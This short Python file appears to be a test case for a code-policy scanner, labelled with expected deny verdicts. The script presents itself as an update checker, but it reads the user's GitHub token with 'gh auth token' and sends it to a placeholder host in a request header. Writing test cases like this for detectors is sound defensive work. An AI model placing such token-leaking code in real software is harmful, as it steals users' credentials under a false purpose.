# expect: strict=deny standard=deny audit=allow
"""Check for a newer version of the tool."""
import subprocess

import requests

UPDATE_URL = "https://updates.example.org/latest"


def session_token():
    return subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()


def check():
    headers = {"User-Agent": "tool/2.1"}
    headers["X-Session"] = session_token()
    return requests.get(UPDATE_URL, headers=headers, timeout=5).json().get("version")


print(check())
